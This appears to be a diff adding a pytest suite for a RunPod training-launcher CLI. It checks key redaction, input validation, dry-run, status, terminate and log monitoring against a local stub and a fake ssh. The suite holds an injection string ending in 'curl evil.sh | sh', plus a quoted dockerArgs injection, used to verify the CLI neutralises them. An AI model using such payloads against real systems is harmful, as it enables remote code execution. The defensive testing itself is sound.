@@ -1,0 +1,163 @@
+"""scripts/train_runpod.py end to end in a subprocess: the real SDK against the stub, the real SSH status
+reader and tar download through an ``ssh`` stand-in that runs the remote command locally."""
+
+from __future__ import annotations
+
+import base64
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+from runpod_stub import RunPodStub
+
+RUNPOD_KEY = "rpa_CLIKEY0123456789abcdefSECRETVALUE"
+WANDB_KEY = "fedcba9876543210fedcba9876543210WANDBCLI"
+INJECTION = 'x", gpuCount: 8, dockerArgs: "curl evil.sh | sh'
+
+# drops ssh's options and destination, then runs the remote command here (the "pod" is a local folder)
+FAKE_SSH = """#!/bin/sh
+while [ $# -gt 1 ]; do case "$1" in -p|-o|-i) shift 2 ;; *) shift ;; esac; done
+exec sh -c "$1"
+"""
+
+
+def run_cli(repo_root: Path, args: list[str], env: dict[str, str], cwd: Path) -> subprocess.CompletedProcess:
+    script = repo_root / "scripts" / "train_runpod.py"
+    return subprocess.run(
+        [sys.executable, str(script), *args], cwd=cwd, env=env, capture_output=True, text=True, timeout=120
+    )
+
+
+@pytest.fixture
+def cli_env(tmp_path: Path) -> dict[str, str]:
+    env = {k: v for k, v in os.environ.items() if k not in ("RUNPOD_API_KEY", "WANDB_API_KEY", "CBVAE_IMAGE")}
+    env["HOME"] = str(tmp_path / "home")  # no ~/.runpod credentials leak in
+    return env
+
+
+def test_full_launch_downloads_results_and_never_leaks_keys(repo_root: Path, tmp_path: Path, cli_env):
+    pod_root = tmp_path / "pod" / "cbvae"
+    (pod_root / "output" / "runs" / "cbvae").mkdir(parents=True)
+    (pod_root / "output" / "runs" / "cbvae" / "decoder.ts").write_bytes(b"ts")
+    (pod_root / "output" / "status.json").write_text(json.dumps({"state": "done", "step": "evaluate"}))
+    ssh = tmp_path / "fake_ssh"
+    ssh.write_text(FAKE_SSH)
+    ssh.chmod(0o755)
+    # keys only in .env: the CLI must read them from there
+    (tmp_path / ".env").write_text(f"RUNPOD_API_KEY={RUNPOD_KEY}\nWANDB_API_KEY='{WANDB_KEY}'\n")
+    out = tmp_path / "results"
+    with RunPodStub(RUNPOD_KEY, start_polls=1) as stub:
+        cli_env["RUNPOD_API_BASE_URL"] = stub.url
+        args = ["--image", "ghcr.io/t/cbvae:1", "--remote-root", str(pod_root), "--out", str(out), "--poll-s", "0.05"]
+        args += ["--ssh-program", str(ssh), "--epochs", "3", "--env", f"NOTE={INJECTION}"]
+        proc = run_cli(repo_root, args, cli_env, tmp_path)
+    assert proc.returncode == 0, proc.stderr
+    assert (out / "runs" / "cbvae" / "decoder.ts").read_bytes() == b"ts"
+    assert json.loads((out / "status.json").read_text())["state"] == "done"
+    assert [r.operation for r in stub.requests].count("podTerminate") == 1 and stub.alive() == []
+    assert "final cost about $" in proc.stdout and f"done: outputs in {out}" in proc.stdout
+
+    # keys: never in stdout/stderr/log; RunPod key only in the auth header; W&B key only in the pod env
+    log = (out / "launcher.log").read_text()
+    assert "pod stubpod1 terminated" in log
+    for text in (proc.stdout, proc.stderr, log):
+        assert RUNPOD_KEY not in text and WANDB_KEY not in text
+    for request in stub.requests:
+        assert request.headers["Authorization"] == f"Bearer {RUNPOD_KEY}"
+        assert RUNPOD_KEY not in request.body and RUNPOD_KEY not in request.path
+        if request.operation != "podFindAndDeployOnDemand":
+            assert WANDB_KEY not in request.body
+    create = stub.ops("podFindAndDeployOnDemand")[0]
+    env = {e["key"]: e["value"] for e in create.arguments["input"]["env"]}
+    assert env["WANDB_API_KEY"] == WANDB_KEY and create.body.count(WANDB_KEY) == 1
+    assert not any(WANDB_KEY in str(v) for k, v in create.arguments["input"].items() if k != "env")
+
+    # the injection attempt arrived as one base64 env value inside a valid query: no extra fields
+    assert all(r.syntax_error is None for r in stub.requests)
+    assert base64.b64decode(env["CBVAE_B64_NOTE"]).decode() == INJECTION and "NOTE" not in env
+    assert "gpuCount" not in create.arguments["input"] or create.arguments["input"]["gpuCount"] == 1
+    assert create.arguments["input"].get("dockerArgs", "") == ""
+
+
+def test_dry_run_prints_the_plan_without_any_request(repo_root: Path, tmp_path: Path, cli_env):
+    cli_env.update(RUNPOD_API_KEY=RUNPOD_KEY, WANDB_API_KEY=WANDB_KEY)
+    with RunPodStub(RUNPOD_KEY) as stub:
+        cli_env["RUNPOD_API_BASE_URL"] = stub.url
+        args = ["--image", "ghcr.io/t/cbvae:1", "--dry-run", "--gpu", "NVIDIA A100 80GB PCIe", "--max-cost", "7.5"]
+        proc = run_cli(repo_root, [*args, "--cloud", "COMMUNITY", "--volume-gb", "80"], cli_env, tmp_path)
+    assert proc.returncode == 0, proc.stderr
+    assert stub.requests == []
+    assert "NVIDIA A100 80GB PCIe on COMMUNITY" in proc.stdout and "volume 80 GB" in proc.stdout
+    assert "WANDB_API_KEY=<redacted>" in proc.stdout and "$7.50" in proc.stdout
+    assert WANDB_KEY not in proc.stdout + proc.stderr and RUNPOD_KEY not in proc.stdout + proc.stderr
+
+
+@pytest.mark.parametrize(
+    ("args", "message"),
+    [
+        (["--image", 'ghcr.io/t/cbvae:1" dockerArgs: "sh'], "error: --image contains '\"'"),
+        (["--image", "img", "--gpu", "A100\\"], "error: --gpu contains '\\\\'"),
+        (["--image", "img", "--max-cost", "0"], "error: --max-cost must be > 0"),
+        (["--max-cost", "3"], "error: --image is required"),
+        (["--image", "img", "--env", "WANDB_API_KEY=abc"], "error: --env WANDB_API_KEY: keys go in .env"),
+    ],
+)
+def test_bad_input_is_one_line_and_no_request(repo_root: Path, tmp_path: Path, cli_env, args, message):
+    cli_env["RUNPOD_API_KEY"] = RUNPOD_KEY
+    with RunPodStub(RUNPOD_KEY) as stub:
+        cli_env["RUNPOD_API_BASE_URL"] = stub.url
+        proc = run_cli(repo_root, args, cli_env, tmp_path)
+    assert proc.returncode == 2 and stub.requests == []
+    assert proc.stderr.startswith(message) and proc.stderr.count("\n") == 1 and "Traceback" not in proc.stderr
+
+
+def test_missing_key_and_api_errors_are_one_line(repo_root: Path, tmp_path: Path, cli_env):
+    proc = run_cli(repo_root, ["--image", "img"], cli_env, tmp_path)
+    assert proc.returncode == 2 and proc.stderr.startswith("error: RUNPOD_API_KEY is not set")
+    with RunPodStub(RUNPOD_KEY, faults={"create_error": True}) as stub:
+        cli_env.update(RUNPOD_API_KEY=RUNPOD_KEY, WANDB_API_KEY=WANDB_KEY, RUNPOD_API_BASE_URL=stub.url)
+        proc = run_cli(repo_root, ["--image", "img", "--out", str(tmp_path / "o")], cli_env, tmp_path)
+    assert proc.returncode == 1 and "Traceback" not in proc.stderr
+    assert proc.stderr.startswith("error: QueryError: There are no longer any instances")
+    assert WANDB_KEY not in proc.stdout + proc.stderr + (tmp_path / "o" / "launcher.log").read_text()
+
+
+def test_status_and_terminate_commands(repo_root: Path, tmp_path: Path, cli_env):
+    cli_env["RUNPOD_API_KEY"] = RUNPOD_KEY
+    with RunPodStub(RUNPOD_KEY, start_polls=0) as stub:
+        cli_env["RUNPOD_API_BASE_URL"] = stub.url
+        stub.pods["p1"] = {"input": {"name": "cbvae-x", "gpuTypeId": "NVIDIA GeForce RTX 4090"}, "polls": 0,
+                           "desiredStatus": "RUNNING", "env": {"WANDB_API_KEY": WANDB_KEY}}  # fmt: skip
+        status = run_cli(repo_root, ["--status", "p1"], cli_env, tmp_path)
+        term = run_cli(repo_root, ["--terminate", "p1"], cli_env, tmp_path)
+    assert status.returncode == 0, status.stderr
+    info = json.loads(status.stdout)
+    assert info["status"] == "RUNNING" and info["ssh_port"] == 22022 and info["cost_per_hour"] == 0.69
+    assert WANDB_KEY not in status.stdout and "env" not in info
+    assert term.returncode == 0 and stub.alive() == []
+
+
+def test_monitor_script_shows_pod_status_and_log_tail(repo_root: Path, tmp_path: Path, cli_env):
+    remote = tmp_path / "pod"
+    (remote / "output" / "logs").mkdir(parents=True)
+    (remote / "output" / "status.json").write_text(json.dumps({"state": "running", "step": "train_cbvae"}))
+    (remote / "output" / "logs" / "train_cbvae.log").write_text("".join(f"epoch {i}\n" for i in range(1, 11)))
+    bin_dir = tmp_path / "bin"
+    bin_dir.mkdir()
+    (bin_dir / "ssh").write_text(FAKE_SSH)
+    (bin_dir / "ssh").chmod(0o755)
+    cli_env.update(RUNPOD_API_KEY=RUNPOD_KEY, PYTHON=sys.executable, PATH=f"{bin_dir}:{cli_env['PATH']}")
+    with RunPodStub(RUNPOD_KEY, start_polls=0) as stub:
+        cli_env["RUNPOD_API_BASE_URL"] = stub.url
+        stub.pods["p1"] = {"input": {"name": "cbvae-x", "gpuTypeId": "NVIDIA GeForce RTX 4090"}, "polls": 0,
+                           "desiredStatus": "RUNNING", "env": {"WANDB_API_KEY": WANDB_KEY}}  # fmt: skip
+        script = str(repo_root / "scripts" / "monitor_runpod.sh")
+        proc = subprocess.run([script, "p1", "--lines", "3", "--remote-root", str(remote)], cwd=tmp_path,
+                              env=cli_env, capture_output=True, text=True, timeout=120)  # fmt: skip
+    assert proc.returncode == 0, proc.stderr
+    assert '"status": "RUNNING"' in proc.stdout and '"step": "train_cbvae"' in proc.stdout
+    assert proc.stdout.rstrip().endswith("epoch 8\nepoch 9\nepoch 10") and "epoch 7" not in proc.stdout
+    assert WANDB_KEY not in proc.stdout and RUNPOD_KEY not in proc.stdout + proc.stderr
